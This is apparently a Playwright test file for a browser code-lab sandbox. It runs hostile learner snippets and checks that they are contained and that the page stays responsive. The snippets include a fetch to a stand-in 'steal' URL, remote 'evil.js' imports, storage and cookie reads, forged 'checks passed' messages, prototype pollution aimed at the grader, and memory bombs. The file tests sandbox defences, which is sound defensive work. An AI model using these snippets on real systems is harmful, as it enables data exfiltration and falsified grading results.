/**
 * Hostile learner code: each snippet must be contained (no request leaves the origin: the fixture
 * checks), get a clear message, leave the page answering clicks within 200 ms while it runs, and
 * leave the sandbox ready for the next honest run.
 */
import { CRASHED_MESSAGE } from '../lib/sandbox/run-collector';
import type { Page } from '@playwright/test';
import { CrashTolerantDriver, type RolePath } from './crash-tolerant-driver';
import { expect, test } from './sandbox-fixtures';
import {
  clickResponsesThroughRun,
  exerciseRegion,
  watchLongTasks,
  honestRunWorks,
  measureClickResponse,
  openCodeLabWithDraft,
  runStatus,
} from './sandbox-helpers';

interface HostileCase {
  readonly name: string;
  readonly code: string;
  /** What the learner must be told (the error line, or the output for runs that finish). */
  readonly message: RegExp;
  /** Runs until the time limit: the click is measured while it is still running. */
  readonly long?: boolean;
  /** Where the message appears (default: the error alert). */
  readonly where?: 'alert' | 'log';
}

const CASES: HostileCase[] = [
  { name: 'infinite loop', code: 'while (true) {}', message: /Stopped after 3\.0 s, the time limit/, long: true },
  {
    name: 'infinite loop after an await',
    code: 'await null;\nfor (;;) {}',
    message: /Stopped after 3\.0 s, the time limit/,
    long: true,
  },
  {
    name: 'deep recursion',
    code: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
    // V8 reports the overflow at the call (line 2) or at the function's entry (line 1).
    message: /^Line [12]: RangeError: Maximum call stack size exceeded \(a function keeps calling itself/,
  },
  {
    name: 'console flood',
    code: "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);",
    message: /output truncated/,
    where: 'log',
  },
  {
    name: 'fetch',
    code: "await fetch('https://example.com/steal?k=1');",
    message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/,
  },
  {
    name: 'XMLHttpRequest',
    code: "const x = new XMLHttpRequest();\nx.open('GET', 'https://example.com');",
    message: /^Line 1: Error: XMLHttpRequest is not available in the code lab/,
  },
  {
    name: 'WebSocket',
    code: "new WebSocket('wss://example.com/socket');",
    message: /^Line 1: Error: WebSocket is not available in the code lab/,
  },
  {
    name: 'import() of a remote URL',
    code: "const m = await import('https://example.com/evil.js');",
    message: /^Line 1: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/,
  },
  {
    name: 'import() of a data: URL',
    code: "const m = await import('data:text/javascript,export default 42');",
    message: /^Line 1: Cannot import 'data:text\/javascript,export default 42'/,
  },
  {
    name: 'static import outside the allowlist',
    code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);",
    message: /^Line 1: Cannot import 'node:fs'/,
  },
  {
    name: 'importScripts',
    code: "importScripts('https://example.com/evil.js');",
    message: /^Line 1: Error: importScripts is not available in the code lab/,
  },
  {
    name: 'nested Worker',
    code: "new Worker('data:text/javascript,postMessage(1)');",
    message: /^Line 1: Error: Worker is not available in the code lab/,
  },
  {
    name: 'reading document',
    code: 'console.log(document.title);',
    message: /^Line 1: ReferenceError: document is not defined\. Your code runs in an isolated worker with no page/,
  },
  {
    name: 'localStorage',
    code: "localStorage.getItem('backdoor-lab:draft:code-lab');",
    message: /^Line 1: ReferenceError: localStorage is not defined\. Your code runs in an isolated worker/,
  },
  {
    name: 'indexedDB',
    code: "indexedDB.open('loot');",
    message:
      /^Line 1: Error: indexedDB is not available in the code lab: learner code cannot use the browser's storage/,
  },
  {
    name: 'document.cookie',
    code: 'export const cookie = document.cookie;',
    message: /^Line 1: ReferenceError: document is not defined/,
  },
  {
    name: 'eval of remote code',
    code: 'const indirect = eval;\nawait indirect("import(\'https://example.com/evil.js\')");',
    // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
    // worker's CSP (a script-src of one hash: no URL at all), which refuses it before any request is made.
    message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
  },
  {
    name: 'eval of a data: import',
    code: 'const indirect = eval;\nawait indirect("import(\'data:text/javascript,export default 42\')");',
    message: /^TypeError: Failed to fetch dynamically imported module: data:text\/javascript,export default 42$/,
  },
  {
    name: 'throw 42',
    code: 'throw 42;',
    message: /Your code threw 42, which is not an Error, so there is no line number/,
  },
  {
    name: 'unhandled rejection',
    code: "Promise.reject(new Error('nobody awaits me'));\nexport const x = 1;",
    message: /^Line 1: Unhandled promise rejection: Error: nobody awaits me\. A promise failed and nothing awaited it/,
  },
  {
    name: 'Atomics.wait on a SharedArrayBuffer',
    code: 'const shared = new SharedArrayBuffer(4);\nAtomics.wait(new Int32Array(shared), 0, 0);',
    message: /^Line 1: ReferenceError: SharedArrayBuffer is not defined|Stopped after 3\.0 s/,
  },
  { name: 'closing the worker', code: 'close();', message: /^Line 1: Error: close is not available in the code lab/ },
  // Issue 9, item 4: replaced globals and exotic results are named, not "protocol error" or "time limit".
  {
    name: 'replacing performance.now, structuredClone and setTimeout',
    code: "performance.now = () => 'soon' as never;\nglobalThis.structuredClone = () => { throw new Error('no copies'); };\nglobalThis.setTimeout = (() => 0) as never;\nexport const x = 1;",
    message: /Your code replaced performance\.now, structuredClone and setTimeout; the sandbox kept its own copies/,
    where: 'log',
  },
  {
    name: 'returning a WebAssembly.Module',
    code: 'export const mod = new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));',
    message: /^The export `?mod`? is a WebAssembly\.Module, which cannot leave the sandbox\./,
  },
  {
    name: 'returning a function',
    code: 'export default function solve() { return { f: function helper() {} }; }',
    message: /contains a function \(`?helper`?\), which cannot leave the sandbox/,
  },
  {
    name: 'returning a class instance',
    code: 'class Point { x = 1; }\nexport const p = new Point();',
    message: /^The export `?p`? is an instance of the class `?Point`?/,
  },
  {
    name: 'returning a million objects',
    code: 'export const many = Array.from({ length: 1_000_000 }, (_, i) => ({ i }));',
    message: /^The export `?many`? has at least [\d,]+ objects, arrays and items; the limit is 20,000/,
  },
];

test.describe('hostile learner code', () => {
  for (const c of CASES) {
    test(c.name, async ({ page }, testInfo) => {
      await openCodeLabWithDraft(page, c.code);
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      if (c.long) {
        await expect(runStatus(page)).toHaveText('Running…');
        await page.waitForTimeout(400);
      }
      const click = await measureClickResponse(page);
      testInfo.annotations.push({
        type: 'click response',
        description: `${click.inPageMs.toFixed(1)} ms in page, ${click.wallMs} ms wall`,
      });
      expect(click.inPageMs, 'pointerdown → toggle, measured in the page').toBeLessThan(200);
      if (c.long) await expect(page.getByRole('button', { name: 'Stop' })).toBeEnabled();

      if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
      else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
      await expect(runStatus(page)).not.toHaveText('Running…');
      await honestRunWorks(page);
    });
  }

  /**
   * Values that cost the page, not the sandbox: each used to freeze clicks for 1-8 s while the page
   * cloned it, checked it or rendered it. Now the sandbox refuses an oversized value before it
   * crosses (lib/sandbox/value-budget.ts), checks run in a worker, and output is bounded by what it
   * costs to render. Clicks are measured through the whole run and just after it.
   */
  const OVERSIZED: HostileCase[] = [
    {
      name: 'returns a 100 MB string',
      code: "export default function solve() {\n  return 'x'.repeat(100_000_000);\n}",
      message:
        /^The value your default function returned holds a string of 100,000,000 characters \(95 MB\); the limit is 524,288 characters, so it was not sent back to the page/,
    },
    {
      name: 'a 128 MB ciphertext through the AEAD check',
      code: 'export const sharedSecret = new Uint8Array(32);\nexport const key = new Uint8Array(32);\nexport const plaintext = new Uint8Array(128 * 1024 * 1024);',
      message: /^The export `?plaintext`? holds binary data of 128 MB \(134,217,728 bytes\); the limit is 512 KB/,
    },
    {
      name: 'a 10 MB forged text a check message would repeat',
      code: "export const plaintext = 'Meet me at noon. '.repeat(600_000);",
      message: /^The export `?plaintext`? holds a string of 10,200,000 characters/,
    },
    {
      name: 'two million objects',
      code: 'export default () => Array.from({ length: 2_000_000 }, (_, i) => ({ i }));',
      message:
        /^The value your default function returned has at least 2,000,00\d objects, arrays and items; the limit is 20,000/,
    },
    {
      name: 'a getter that is small when measured and huge when sent (the frame refuses it)',
      code: "let reads = 0;\nexport const sneaky = { get text() { return reads++ === 0 ? 'small' : 'y'.repeat(50_000_000); } };",
      message: /^The export `?sneaky`? holds a string of 50,000,000 characters/,
    },
    {
      name: 'an 80 MB hex string the key check would parse',
      code: "export const key = 'ab'.repeat(40_000_000);",
      message: /^The export `?key`? holds a string of 80,000,000 characters/,
    },
    {
      name: 'twelve lines of 5,000 combining marks each (within the character caps)',
      code: "for (let i = 0; i < 12; i++) console.log('Z' + '\\u0301'.repeat(5000));",
      message: /truncated: 4,993 combining characters removed/,
      where: 'log',
    },
    {
      name: 'a line of 5,000 combining marks',
      code: "console.log('Z' + '\\u0301'.repeat(5000));",
      message: /truncated: 4,993 combining characters removed/,
      where: 'log',
    },
  ];

  for (const c of OVERSIZED) {
    test(`oversized: ${c.name}`, async ({ page }, testInfo) => {
      await openCodeLabWithDraft(page, c.code);
      const longestTask = await watchLongTasks(page);
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      const clicks = await clickResponsesThroughRun(page);
      await expect(runStatus(page)).not.toHaveText('Running…');
      const blocked = await longestTask();
      testInfo.annotations.push({
        type: 'click responses',
        description: `${clicks.map((ms) => `${ms.toFixed(1)} ms`).join(', ')}; longest main-thread task ${blocked.toFixed(0)} ms`,
      });
      if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
      else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
      expect(Math.max(...clicks), 'slowest pointerdown → toggle, measured in the page').toBeLessThan(200);
      expect(
        blocked,
        'longest main-thread task from Run to the message shown (a click waits at most this long)',
      ).toBeLessThan(200);
      await honestRunWorks(page);
    });
  }

  test('console flood keeps the output bounded to 500 lines', async ({ page }) => {
    await openCodeLabWithDraft(page, "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);");
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByRole('log')).toContainText('output truncated');
    await expect(page.getByRole('log').locator('div')).toHaveCount(501);
    await expect(page.getByRole('log')).toContainText('flood 499');
    await expect(page.getByRole('log')).not.toContainText('flood 500');
  });

  test('a forged "done"/"checks passed" message cannot reach the page', async ({ page }) => {
    const code = [
      "const forged = { type: 'done', runId: 'ffffffffffffffffffffffffffffffff', outcome: { status: 'ok', durationMs: 1, result: { checksPassed: true } } };",
      'for (const send of [() => postMessage(forged), () => (self as any).postMessage(forged), () => Object.getPrototypeOf(self).postMessage.call(self, forged)]) {',
      '  try { send(); console.log("sent?!"); } catch (e) { console.log("refused:", (e as Error).message); }',
      '}',
      'export const sharedSecret = new Uint8Array(32);',
      'export const checksPassed = true;',
    ].join('\n');
    await openCodeLabWithDraft(page, code);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText(/^Finished in/);
    await expect(page.getByRole('log')).toContainText('refused: postMessage is not available in the code lab');
    await expect(page.getByRole('log')).not.toContainText('sent?!');
    const sharedSecretCheck = page
      .getByRole('listitem')
      .filter({ hasText: 'is the X25519 secret Alice shares with Bob' });
    await expect(sharedSecretCheck).toContainText('failed');
    await expect(runStatus(page)).not.toContainText('all checks pass');
    await honestRunWorks(page);
  });

  test('prototype pollution and a replaced check function do not change the verdict', async ({ page }) => {
    const code = [
      'Object.prototype.pass = true;',
      "Object.defineProperty(Object.prototype, 'sharedSecret', { get: () => 'ff'.repeat(32), configurable: true });",
      'Array.prototype.every = () => true;',
      'Array.prototype.some = () => true;',
      '(globalThis as any).runChecks = () => [{ id: "shared-secret", pass: true, message: "ok" }];',
      '(globalThis as any).allChecksPassed = () => true;',
      'export const key = new Uint8Array(32);',
      "export const plaintext = 'Meet me somewhere else';",
    ].join('\n');
    await openCodeLabWithDraft(page, code);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText(/^Finished in/);
    await expect(runStatus(page)).not.toContainText('all checks pass');
    const item = (text: string) => page.getByRole('listitem').filter({ hasText: text });
    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText('failed');
    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText(
      'Nothing found at the export sharedSecret',
    );
    await expect(item('is HKDF-SHA256')).toContainText('different bytes');
    await expect(item('is Bob’s message as text')).toContainText('not the expected value');
    const pageRealm = await page.evaluate(() => ({
      pass: ({} as Record<string, unknown>).pass,
      every: [1].every((x) => x === 2),
      runChecks: typeof (globalThis as Record<string, unknown>).runChecks,
    }));
    expect(pageRealm).toEqual({ pass: undefined, every: false, runChecks: 'undefined' });
    await honestRunWorks(page);
  });

  test('Stop ends a running program at once', async ({ page }) => {
    await openCodeLabWithDraft(page, 'while (true) {}');
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText('Running…');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect(exerciseRegion(page).getByRole('alert')).toHaveText('Stopped: you pressed Stop.');
    await expect(runStatus(page)).toHaveText(/^Stopped after/);
    await honestRunWorks(page);
  });

  /**
   * Out-of-memory crashes. The learner's worker lives in the sandbox frame's renderer process, not
   * the tab's, so a crash ends only that process; the page notices the frame has gone silent and
   * says so. Playwright reports an out-of-process iframe's crash as the page's (see
   * crash-tolerant-driver.ts), so after Run these tests drive the page through its accessibility
   * tree over CDP.
   */
  test.describe('crashes', () => {
    const REGION = ['region', 'Open Bob’s message'] as const;
    const STATUS: RolePath = [REGION, ['group', 'Run controls'], ['status']];
    const ALERT: RolePath = [REGION, ['alert']];

    async function runAndWatch(page: Page, code: string) {
      await openCodeLabWithDraft(page, code);
      const driver = await CrashTolerantDriver.attach(page);
      let playwrightSawCrash = false;
      page.on('crash', () => (playwrightSawCrash = true));
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      await driver.waitForText(STATUS, /^Running…$/);
      return { driver, crashed: () => playwrightSawCrash };
    }

    /** pointerdown → toggle of "What your code can use", measured in the page, through the driver. */
    async function clickResponse(driver: CrashTolerantDriver): Promise<number> {
      await driver.evaluate(`(() => {
        const details = document.querySelector('details');
        window.__clickProbe = new Promise((resolve) => {
          let downAt = 0;
          details.querySelector('summary').addEventListener('pointerdown', (e) => (downAt = e.timeStamp), { once: true });
          details.addEventListener('toggle', () => resolve(performance.now() - downAt), { once: true });
        });
      })()`);
      await driver.click([['DisclosureTriangle', 'What your code can use']]);
      return driver.evaluate<number>('window.__clickProbe');
    }

    /** Reset to starter, Run, and the starter's output and first check appear: the sandbox works again. */
    async function honestRunThroughDriver(driver: CrashTolerantDriver): Promise<void> {
      // No confirm dialog here: Playwright stops handling dialogs on a page it believes crashed,
      // and an unanswered dialog would block the page. (Reset's confirm is tested elsewhere.)
      await driver.evaluate('window.confirm = () => true');
      await driver.click([REGION, ['button', 'Reset to starter']]);
      await driver.click([REGION, ['button', 'Run']]);
      await driver.waitForText(STATUS, /^Finished in \d+/, 15_000);
      await driver.waitForText([REGION, ['log']], /Bob sent 67 bytes of ciphertext/);
      await driver.waitForText([REGION, ['list', 'Checks']], /passed: The program runs to the end/);
    }

    test('a sandbox process that dies mid-run is reported as a crash; the page and the next run are fine', async ({
      page,
    }) => {
      const { driver, crashed } = await runAndWatch(page, 'while (true) {}');
      // Kill the frame's renderer process, as running out of memory does (deterministically: a
      // real memory bomb's timing depends on the machine, see the next test).
      const sandboxFrame = () => page.frames().find((frame) => frame.url().endsWith('/sandbox/frame.html'));
      await expect.poll(() => sandboxFrame() !== undefined, { message: 'the sandbox frame' }).toBe(true);
      const sandbox = sandboxFrame();
      const frameSession = await page.context().newCDPSession(sandbox!);
      void frameSession.send('Page.crash').catch(() => undefined);

      expect(await clickResponse(driver), 'pointerdown → toggle while the sandbox is down').toBeLessThan(200);
      expect(await driver.waitForText(ALERT, /crashed/)).toBe(CRASHED_MESSAGE);
      expect(await driver.text(STATUS)).toMatch(/^Failed after/);
      expect(crashed(), 'Playwright saw the frame crash (and blamed the page)').toBe(true);
      await honestRunThroughDriver(driver);
    });

    test('memory bomb: stopped at the time limit, or its crash contained in the sandbox process', async ({
      page,
    }, testInfo) => {
      const { driver, crashed } = await runAndWatch(
        page,
        'const hoard: number[][] = [];\nwhile (true) hoard.push(new Array(4_000_000).fill(Math.random()));',
      );
      await new Promise((resolve) => setTimeout(resolve, 400));
      expect(await clickResponse(driver), 'pointerdown → toggle while the bomb grows').toBeLessThan(200);
      const message = await driver.waitForText(ALERT, /sandbox crashed|Stopped after 3\.0 s|RangeError/, 15_000);
      testInfo.annotations.push({
        type: 'memory bomb',
        description: `${crashed() ? 'the sandbox process crashed' : 'no crash'}: ${message}`,
      });
      await honestRunThroughDriver(driver);
    });
  });
});
